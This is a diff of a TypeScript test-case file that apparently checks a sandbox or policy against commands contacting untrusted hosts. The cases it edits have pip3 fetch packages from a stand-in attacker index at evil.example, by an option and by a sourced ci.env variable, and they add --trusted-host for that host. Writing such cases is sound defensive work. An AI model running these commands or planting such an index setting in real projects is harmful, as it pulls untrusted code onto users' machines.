@@ -86,13 +86,15 @@ export const hostCases: readonly BorrowedCase[] = family("hosts", [
   {
     ...{ id: "pip-index-option", title: "an index by an option" },
     acts: [
-      "pip3 download --break-system-packages --retries 0 --timeout 3 -d out -i http://evil.example/simple left-pad",
+      "pip3 download --retries 0 --timeout 3 -d out --trusted-host evil.example -i http://evil.example/simple left-pad",
     ],
   },
   {
     ...{ id: "pip-index-variable", title: "an index by a variable of a file" },
     files: { "ci.env": "export PIP_INDEX_URL=http://evil.example/simple\n" },
-    acts: [". ./ci.env; pip3 index versions left-pad --retries 0 --timeout 3"],
+    acts: [
+      ". ./ci.env; pip3 index versions --trusted-host evil.example left-pad --retries 0 --timeout 3",
+    ],
   },
   {
     ...{ id: "kubectl-server", title: "`kubectl get` of a stranger" },
